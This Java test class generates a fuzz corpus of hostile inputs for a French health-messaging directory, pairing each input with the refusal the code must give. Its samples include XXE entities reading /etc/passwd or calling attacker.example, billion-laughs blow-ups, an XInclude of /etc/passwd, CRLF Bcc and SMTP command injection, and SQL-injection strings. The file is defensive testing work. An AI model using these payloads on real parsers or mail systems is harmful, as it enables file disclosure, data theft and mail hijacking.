package fr.mssnode.directory.fuzz;

import static fr.mssnode.directory.fuzz.KeptCorpus.HostileInput.refused;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;

import fr.mssnode.directory.Ins;
import fr.mssnode.directory.fuzz.KeptCorpus.HostileInput;

/**
 * Writes the kept corpus of hostile directory inputs, each with the refusal the directory must answer: Annuaire Santé
 * extracts that are empty, truncated, not UTF-8, with endless lines or the wrong columns; whitelists with XXE, entity
 * blow-ups, a DOCTYPE anywhere, deep nesting, over 20 MB; e-mail addresses the SMTP gate must refuse (no @, two @,
 * 300 characters, Unicode, CRLF header injection...); malformed INS (wrong key, wrong length, letters). Everything
 * is made here; nothing is downloaded.
 *
 * <p>Regenerate (then review the diff of expected.tsv): {@code mvn -o test -pl directory
 * -Dtest=HostileDirectoryInputs -Dcorpus.write=true}.
 */
class HostileDirectoryInputs {
    static final String EXTRACT = "Extraction_Correspondance_MSS.txt";
    static final String HEADER = "Type de BAL|Adresse BAL|Identification nationale PP|Identification Structure"
        + "|Raison sociale structure BAL|Service de rattachement|";
    static final String ROW = "PER|dr.lefebvre@hopital-demo.test|810000000017|R10000000001|Hôpital démo|Cardiologie|";
    static final String WHITELIST_NS = "https://listeblanche.mssante.fr/schema";
    static final String NOT_AN_ADDRESS = "is not a valid e-mail address";
    static final String NOT_AN_INS = "is not an INS matricule";
    static final String DEEP = "100,000 levels of nesting inside Nom: StackOverflowError escapes instead of a refusal";

    @Test
    @EnabledIfSystemProperty(named = "corpus.write", matches = "true")
    void writeTheKeptCorpus() throws IOException {
        List<HostileInput> all = new ArrayList<>();
        all.addAll(extracts());
        all.addAll(whitelists());
        all.addAll(addresses());
        all.addAll(insMatricules());
        KeptCorpus.write(all);
        KeptCorpus.writeSeeds(ExtractReaderFuzzTest.class, "readEveryRow", List.of(
            seed("mailboxes.txt", HEADER + "\n" + ROW + "\n"), seed("crlf.txt", HEADER + "\r\n" + ROW + "\r\n"),
            seed("bom.txt", "\uFEFF" + HEADER + "\n" + ROW + "\n"), seed("truncated.txt", HEADER + "\nPER|dr.x@h"),
            seed("short-row.txt", HEADER + "\nPER|a@b.fr|\n\n"), new HostileInput("seed", "latin1.txt",
                (HEADER + "\n" + ROW + "\n").getBytes(StandardCharsets.ISO_8859_1), "", "", "")));
        KeptCorpus.writeSeeds(WhitelistFuzzTest.class, "readDomains", List.of(
            seed("whitelist.xml", whitelist("<Domaine><Nom>chu-sud.test</Nom></Domaine><Domaine><Nom>clinique.test</Nom></Domaine>")),
            seed("xxe.xml", "<!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + whitelist("<Domaine><Nom>&x;</Nom></Domaine>")),
            seed("no-domain.xml", whitelist("<Operateur/>"))));
        KeptCorpus.writeSeeds(AddressesFuzzTest.class, "gateAddress", List.of(seed("plain.txt", "dr.lefebvre@hopital-demo.test"),
            seed("crlf-bcc.txt", "a@b.fr\r\nBcc: x@y.fr"), seed("upper.txt", " DR.X@CHU-SUD.TEST "), seed("two-at.txt", "a@b@c.fr"),
            seed("unicode.txt", "élodie@hôpital.fr")));
        KeptCorpus.writeSeeds(InsFuzzTest.class, "matricule", List.of(seed("nir.txt", Ins.withComputedKey("2850575120005").matricule()),
            seed("corsica.txt", Ins.withComputedKey("185052A123456").matricule()), seed("wrong-key.txt", "285057512000500"),
            seed("letters.txt", "28505ABCDEFGH79"), seed("oid.txt", "1.2.250.1.213.1.4.8")));
    }

    static HostileInput seed(String name, String text) {
        return new HostileInput("seed", name, utf8(text), "", "", "");
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    static byte[] hex(String hex) {
        byte[] bytes = new byte[hex.length() / 2];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) Integer.parseInt(hex.substring(2 * i, 2 * i + 2), 16);
        }
        return bytes;
    }

    // ---- Annuaire Santé extracts -----------------------------------------------------------------------------

    static HostileInput extract(String name, byte[] bytes, String messagePart) {
        return refused("extract", name, bytes, "ExtractException", messagePart);
    }

    static List<HostileInput> extracts() {
        List<HostileInput> inputs = new ArrayList<>();
        String good = HEADER + "\n" + ROW + "\n";
        String notUtf8 = "is not UTF-8: the extracts are published in UTF-8";
        inputs.add(extract("empty.txt", new byte[0], EXTRACT + " is empty: an extract starts with a header line"));
        inputs.add(extract("blank-header.txt", utf8("\n" + ROW + "\n"), EXTRACT + " is empty"));
        inputs.add(extract("bom-only.txt", hex("EFBBBF"), "ends in the middle of line 1"));
        inputs.add(extract("utf16le-with-bom.txt", concat(hex("FFFE"), good.getBytes(StandardCharsets.UTF_16LE)), "line 1 " + notUtf8));
        inputs.add(extract("utf16be-with-bom.txt", good.getBytes(StandardCharsets.UTF_16), "line 1 " + notUtf8));
        inputs.add(extract("latin1-header.txt", ("Libellé|" + HEADER + "\n").getBytes(StandardCharsets.ISO_8859_1),
            "line 1 " + notUtf8));
        // the line named is where the decoder's read-ahead met the byte: line 1 for a small file
        inputs.add(extract("latin1-row.txt", (HEADER + "\n" + ROW + "\n").getBytes(StandardCharsets.ISO_8859_1), notUtf8));
        String[][] badBytes = {{"overlong-slash", "C0AF"}, {"encoded-surrogate", "EDA080"}, {"byte-f5", "F5808080"},
            {"byte-ff", "FF"}, {"lone-continuation", "80"}, {"five-byte-sequence", "F888808080"}};
        for (String[] bad : badBytes) {
            inputs.add(extract("utf8-" + bad[0] + ".txt", concat(utf8(HEADER + "\nPER|dr."), hex(bad[1]),
                utf8("@hopital-demo.test|810000000017|||||\n")), notUtf8));
        }
        inputs.add(extract("utf8-truncated-at-end.txt", concat(utf8(HEADER + "\nPER|dr.x@h.fr|"), hex("E282")), notUtf8));
        inputs.add(extract("truncated-row.txt", utf8(HEADER + "\nPER|dr.lefebvre@hopital-de"),
            EXTRACT + " ends in the middle of line 2 (no end-of-line): the file looks truncated"));
        inputs.add(extract("truncated-header.txt", utf8("Type de BAL|Adresse"), "ends in the middle of line 1"));
        inputs.add(extract("carriage-returns-only.txt", utf8(HEADER + "\r" + ROW + "\r"), "ends in the middle of line 1"));
        inputs.add(extract("endless-row.txt", utf8(HEADER + "\n" + "x".repeat(70_000) + "|\n"),
            "line 2 is longer than 65536 characters"));
        inputs.add(extract("endless-header.txt", utf8("a|".repeat(40_000) + "\n"), "line 1 is longer than 65536 characters"));
        inputs.add(extract("no-line-end-at-all.txt", utf8("a".repeat(1024 * 1024)), "line 1 is longer than 65536 characters"));
        inputs.add(extract("header-without-pipes.txt", utf8("Type de BAL;Adresse BAL;Identification nationale PP\n"),
            "line 1 is not a '|'-separated header"));
        inputs.add(extract("header-one-column.txt", utf8("Adresse BAL|\ndr.x@h.fr|\n"), "line 1 is not a '|'-separated header"));
        inputs.add(extract("header-nul-bytes.txt", concat(new byte[64], utf8("\n")), "line 1 is not a '|'-separated header"));
        inputs.add(extract("xml-instead.txt", utf8("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
            + "<x>&e;</x>\n"), "line 1 is not a '|'-separated header"));
        inputs.add(extract("professionals-extract.txt",
            utf8("Type d'identifiant PP|Identifiant PP|Nom d'exercice|\n8|10000000001|X|\n"),
            EXTRACT + " has no column 'Adresse BAL' (the mailbox address): is this the right kind of extract?"));
        inputs.add(extract("no-mailbox-type.txt", utf8("Adresse BAL|Identification nationale PP|\ndr.x@h.fr|1|\n"),
            "has no column 'Type de BAL' (the mailbox type)"));
        inputs.add(extract("png-image.txt", concat(hex("89504E470D0A1A0A0000000D49484452"), new byte[32]), notUtf8));
        inputs.add(extract("gzipped-extract.txt", gzip(utf8(good)), notUtf8));
        inputs.add(extract("zipped-extract.txt", zip(EXTRACT, utf8(good.repeat(50))), ""));
        return inputs;
    }

    static byte[] gzip(byte[] bytes) {
        try {
            return KeptCorpus.gzip(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] zip(String name, byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    // ---- the MSSanté whitelist ------------------------------------------------------------------------------

    static String whitelist(String content) {
        return "<ListeBlanche xmlns=\"" + WHITELIST_NS + "\">" + content + "</ListeBlanche>";
    }

    static HostileInput whitelist(String name, byte[] bytes, String messagePart) {
        return refused("whitelist", name, bytes, "ExtractException", messagePart);
    }

    static HostileInput whitelist(String name, String xml, String messagePart) {
        return whitelist(name, utf8(xml), messagePart);
    }

    static List<HostileInput> whitelists() {
        List<HostileInput> inputs = new ArrayList<>();
        String decl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
        String domain = "<Domaine><Nom>chu-sud.test</Nom></Domaine>";
        String good = decl + whitelist(domain);
        String doctype = "is not a readable whitelist XML: DOCTYPE is disallowed";
        String[][] targets = {{"file-etc-passwd", "file:///etc/passwd"}, {"http", "http://attacker.example/xxe"},
            {"https", "https://attacker.example/xxe"}, {"ftp", "ftp://attacker.example/xxe"},
            {"jar", "jar:http://attacker.example/x.jar!/x"}, {"netdoc", "netdoc:///etc/passwd"}};
        for (String[] target : targets) {
            inputs.add(whitelist("xxe-" + target[0] + ".xml", decl + "<!DOCTYPE ListeBlanche [<!ENTITY xxe SYSTEM \"" + target[1]
                + "\">]>" + whitelist("<Domaine><Nom>&xxe;</Nom></Domaine>"), doctype));
        }
        inputs.add(whitelist("xxe-parameter-entity.xml", decl + "<!DOCTYPE ListeBlanche [<!ENTITY % remote SYSTEM"
            + " \"http://attacker.example/evil.dtd\"> %remote;]>" + whitelist(domain), doctype));
        inputs.add(whitelist("xxe-external-dtd.xml", decl + "<!DOCTYPE ListeBlanche SYSTEM \"http://attacker.example/lb.dtd\">"
            + whitelist(domain), doctype));
        StringBuilder laughs = new StringBuilder("<!DOCTYPE ListeBlanche [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            laughs.append("<!ENTITY lol").append(i).append(" \"").append((i == 1 ? "&lol;" : "&lol" + (i - 1) + ";").repeat(10))
                .append("\">");
        }
        inputs.add(whitelist("billion-laughs.xml", decl + laughs + "]>" + whitelist("<Domaine><Nom>&lol9;</Nom></Domaine>"), doctype));
        inputs.add(whitelist("quadratic-blowup.xml", decl + "<!DOCTYPE ListeBlanche [<!ENTITY big \"" + "x".repeat(50_000) + "\">]>"
            + whitelist("<Domaine><Nom>" + "&big;".repeat(20_000) + "</Nom></Domaine>"), doctype));
        inputs.add(whitelist("doctype-after-comment.xml", decl + "<!-- liste -->\n<!DOCTYPE ListeBlanche>" + whitelist(domain),
            doctype));
        inputs.add(whitelist("doctype-after-bom.xml", concat(hex("EFBBBF"), utf8("<!DOCTYPE ListeBlanche>" + whitelist(domain))),
            doctype));
        inputs.add(whitelist("doctype-utf16.xml", ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE ListeBlanche>"
            + whitelist(domain)).getBytes(StandardCharsets.UTF_16), doctype));
        inputs.add(whitelist("doctype-inside-root.xml", decl + whitelist("<!DOCTYPE x>" + domain), "is not a readable whitelist XML"));
        inputs.add(whitelist("deep-nesting-in-name.xml", decl + whitelist("<Domaine><Nom>" + "<b>".repeat(100_000)
            + "</b>".repeat(100_000) + "</Nom></Domaine>"), "").knownFinding(DEEP));
        inputs.add(whitelist("deep-nesting-elsewhere.xml", decl + whitelist("<b>".repeat(100_000) + "</b>".repeat(100_000)),
            "lists no domain (no Domaine/Nom element): is it the MSSanté whitelist?"));
        inputs.add(whitelist("larger-than-20-mb.xml", decl + whitelist("<Domaine><Nom>" + "a".repeat(21 * 1024 * 1024)
            + ".test</Nom></Domaine>"), "is larger than 20 MB: not a whitelist"));
        inputs.add(whitelist("empty.xml", new byte[0], "is not a readable whitelist XML: Premature end of file"));
        inputs.add(whitelist("truncated.xml", Arrays.copyOf(utf8(good), good.length() / 2), "is not a readable whitelist XML"));
        String[] around = whitelist("<Domaine><Nom>chu-|sud.test</Nom></Domaine>").split("\\|");
        inputs.add(whitelist("invalid-utf8.xml", concat(utf8(decl + around[0]), hex("C0AF"), utf8(around[1])),
            "is not a readable whitelist XML: Invalid byte"));
        inputs.add(whitelist("latin1.xml", (decl + whitelist("<Domaine><Nom>hôpital.test</Nom></Domaine>"))
            .getBytes(StandardCharsets.ISO_8859_1), "is not a readable whitelist XML"));
        inputs.add(whitelist("bom-twice.xml", concat(hex("EFBBBFEFBBBF"), utf8(whitelist(domain))), "is not a readable whitelist XML"));
        inputs.add(whitelist("other-elements.xml", decl + whitelist("<Operateur><Domain>chu-sud.test</Domain></Operateur>"),
            "lists no domain"));
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < 10_001; i++) {
            attributes.append(" a").append(i).append("=\"1\"");
        }
        inputs.add(whitelist("ten-thousand-and-one-attributes.xml", decl + "<ListeBlanche" + attributes + ">" + domain
            + "</ListeBlanche>", "10,000"));
        inputs.add(whitelist("undeclared-entity.xml", decl + whitelist("<Domaine><Nom>&xxe;</Nom></Domaine>"),
            "was referenced, but not declared"));
        inputs.add(whitelist("huge-element-name.xml", decl + whitelist("<" + "n".repeat(2 * 1024 * 1024) + "/>"), "JAXP00010005"));
        inputs.add(whitelist("not-xml.xml", "chu-sud.test\nclinique.test\n", "is not a readable whitelist XML"));
        inputs.add(new HostileInput("whitelist", "xinclude-etc-passwd.xml", utf8(decl + whitelist("<Domaine><Nom><xi:include"
            + " xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/></Nom></Domaine>")),
            "ACCEPTED_INERT", "root:", ""));
        return inputs;
    }

    // ---- e-mail addresses at the SMTP gate ------------------------------------------------------------------

    static HostileInput address(String name, String address) {
        return refused("address", name + ".txt", utf8(address), "DirectoryException", NOT_AN_ADDRESS);
    }

    static HostileInput normalizedAddress(String name, String address, String normalized) {
        return refused("address", name + ".txt", utf8(address), "NORMALIZED", normalized);
    }

    static List<HostileInput> addresses() {
        String domain = "hopital-demo.test";
        List<HostileInput> inputs = new ArrayList<>();
        inputs.add(address("no-at", "dr.lefebvre." + domain));
        inputs.add(address("two-at", "dr.lefebvre@chu@" + domain));
        inputs.add(address("at-at", "dr.lefebvre@@" + domain));
        inputs.add(address("local-part-300", "a".repeat(300) + "@" + domain));
        inputs.add(address("total-255", "a".repeat(255 - domain.length() - 1) + "@" + domain));
        inputs.add(address("label-64", "dr@" + "a".repeat(64) + ".test"));
        inputs.add(address("domain-300", "dr@" + "a.".repeat(150) + "fr"));
        inputs.add(address("unicode-local-part", "élodie.durand@" + domain));
        inputs.add(address("unicode-domain", "dr.lefebvre@hôpital-démo.test"));
        inputs.add(address("cyrillic-homoglyph", "dr.l\u0435febvre@" + domain));
        inputs.add(address("fullwidth-at", "dr.lefebvre\uFF20" + domain));
        inputs.add(address("zero-width-space", "dr.lefe\u200Bbvre@" + domain));
        inputs.add(address("right-to-left-override", "dr.\u202Eerbvfel@" + domain));
        inputs.add(address("emoji", "dr.\uD83D\uDC89@" + domain));
        inputs.add(address("byte-order-mark", "\uFEFFdr.lefebvre@" + domain));
        inputs.add(address("crlf-bcc-injection", "dr.lefebvre@" + domain + "\r\nBcc: espion@attacker.example"));
        inputs.add(address("lf-header-injection", "dr.lefebvre@" + domain + "\nSubject: injected"));
        inputs.add(address("cr-header-injection", "dr.lefebvre@" + domain + "\rBcc: espion@attacker.example"));
        inputs.add(address("folded-header-injection", "dr.lefebvre@" + domain + "\r\n Bcc: espion@attacker.example"));
        inputs.add(address("smtp-command-injection", "dr.lefebvre@" + domain + ">\r\nRCPT TO:<espion@attacker.example"));
        inputs.add(address("crlf-inside-local-part", "dr.\r\nlefebvre@" + domain));
        inputs.add(address("nul-inside", "dr.lefebvre\0@" + domain));
        inputs.add(address("tab-inside", "dr.\tlefebvre@" + domain));
        inputs.add(address("space-inside", "dr lefebvre@" + domain));
        inputs.add(address("angle-brackets", "<dr.lefebvre@" + domain + ">"));
        inputs.add(address("display-name", "Dr Lefebvre <dr.lefebvre@" + domain + ">"));
        inputs.add(address("quoted-local-part", "\"dr lefebvre\"@" + domain));
        inputs.add(address("quoted-at", "\"dr@lefebvre\"@" + domain));
        inputs.add(address("comment", "dr.lefebvre(cardio)@" + domain));
        inputs.add(address("ip-literal", "dr.lefebvre@[127.0.0.1]"));
        inputs.add(address("ipv6-literal", "dr.lefebvre@[IPv6:::1]"));
        inputs.add(address("domain-trailing-dot", "dr.lefebvre@" + domain + "."));
        inputs.add(address("domain-double-dot", "dr.lefebvre@hopital..test"));
        inputs.add(address("local-leading-dot", ".dr.lefebvre@" + domain));
        inputs.add(address("local-trailing-dot", "dr.lefebvre.@" + domain));
        inputs.add(address("local-double-dot", "dr..lefebvre@" + domain));
        inputs.add(address("label-leading-hyphen", "dr@-hopital.test"));
        inputs.add(address("label-trailing-hyphen", "dr@hopital-.test"));
        inputs.add(address("numeric-tld", "dr@hopital.123"));
        inputs.add(address("single-label-domain", "dr@localhost"));
        inputs.add(address("empty", ""));
        inputs.add(address("only-at", "@"));
        inputs.add(address("no-domain", "dr.lefebvre@"));
        inputs.add(address("no-local-part", "@" + domain));
        inputs.add(address("only-spaces", "   "));
        inputs.add(address("backslash-escape", "dr\\@lefebvre@" + domain));
        inputs.add(address("comma-list", "dr.lefebvre@" + domain + ",espion@attacker.example"));
        inputs.add(address("semicolon-list", "dr.lefebvre@" + domain + ";espion@attacker.example"));
        inputs.add(address("encoded-word", "=?UTF-8?Q?dr.lefebvre=0D=0ABcc:espion?=@" + domain));
        inputs.add(address("sql-injection", "' OR 1=1 --@" + domain));
        // a line end or a NUL at either end is trimmed away: the gate must use the normalized form
        String plain = "dr.lefebvre@" + domain;
        inputs.add(normalizedAddress("trailing-crlf", plain + "\r\n", plain));
        inputs.add(normalizedAddress("trailing-nul", plain + "\0", plain));
        inputs.add(normalizedAddress("leading-tab-trailing-space", "\t" + plain + " ", plain));
        inputs.add(normalizedAddress("upper-case", plain.toUpperCase(java.util.Locale.ROOT), plain));
        return inputs;
    }

    // ---- INS matricules ------------------------------------------------------------------------------------

    static HostileInput ins(String name, String matricule, String messagePart) {
        return refused("ins", name + ".txt", utf8(matricule), "DirectoryException", messagePart);
    }

    static List<HostileInput> insMatricules() {
        String good = Ins.withComputedKey("2850575120005").matricule();
        String first13 = good.substring(0, 13);
        List<HostileInput> inputs = new ArrayList<>();
        inputs.add(ins("wrong-key", first13 + "00", "has key 00 but its first 13 characters give key " + good.substring(13)));
        inputs.add(ins("key-off-by-one", first13 + String.format("%02d", (Integer.parseInt(good.substring(13)) % 97) + 1),
            "but its first 13 characters give key " + good.substring(13)));
        inputs.add(ins("swapped-digits", good.charAt(0) + "" + good.charAt(2) + good.charAt(1) + good.substring(3),
            "but its first 13 characters give key"));
        inputs.add(ins("corsica-wrong-key", "185052A12345600", "has key 00"));
        inputs.add(ins("corsica-2c", Ins.withComputedKey("185052A123456").matricule().replace("2A", "2C"), NOT_AN_INS));
        inputs.add(ins("letter-o-for-zero", good.replace('0', 'O'), NOT_AN_INS));
        inputs.add(ins("letters", "28505ABCDEFGH79", NOT_AN_INS));
        inputs.add(ins("hexadecimal", "2850575120005AF", NOT_AN_INS));
        inputs.add(ins("length-13", first13, NOT_AN_INS));
        inputs.add(ins("length-14", good.substring(0, 14), NOT_AN_INS));
        inputs.add(ins("length-16", good + "0", NOT_AN_INS));
        inputs.add(ins("length-1000", "1".repeat(1000), NOT_AN_INS));
        inputs.add(ins("empty", "", NOT_AN_INS));
        inputs.add(ins("spaces-inside", good.charAt(0) + " " + good.substring(1, 3) + " " + good.substring(3), NOT_AN_INS));
        inputs.add(ins("spaces-around", " " + good + " ", NOT_AN_INS));
        inputs.add(ins("dashes", good.substring(0, 5) + "-" + good.substring(5), NOT_AN_INS));
        inputs.add(ins("sex-digit-0", "0" + good.substring(1), NOT_AN_INS));
        inputs.add(ins("sex-digit-4", "4" + good.substring(1), NOT_AN_INS));
        inputs.add(ins("sex-digit-9", "9" + good.substring(1), NOT_AN_INS));
        inputs.add(ins("arabic-indic-digits", good.chars().mapToObj(c -> String.valueOf((char) (c - '0' + '\u0660')))
            .reduce("", String::concat), NOT_AN_INS));
        inputs.add(ins("fullwidth-digits", good.chars().mapToObj(c -> String.valueOf((char) (c - '0' + '\uFF10')))
            .reduce("", String::concat), NOT_AN_INS));
        inputs.add(ins("trailing-crlf", good + "\r\n", NOT_AN_INS));
        inputs.add(ins("trailing-lf", good + "\n", NOT_AN_INS));
        inputs.add(ins("trailing-nul", good + "\0", NOT_AN_INS));
        inputs.add(ins("plus-sign", "+" + good.substring(1), NOT_AN_INS));
        inputs.add(ins("minus-sign", "-" + good.substring(1), NOT_AN_INS));
        inputs.add(ins("scientific", "2.850575120005E14", NOT_AN_INS));
        inputs.add(ins("sql-injection", "' OR '1'='1", NOT_AN_INS));
        inputs.add(ins("oid-instead", "1.2.250.1.213.1.4.8", NOT_AN_INS));
        inputs.add(ins("header-injection", good + "\r\nBcc: espion@attacker.example", NOT_AN_INS));
        return inputs;
    }
}
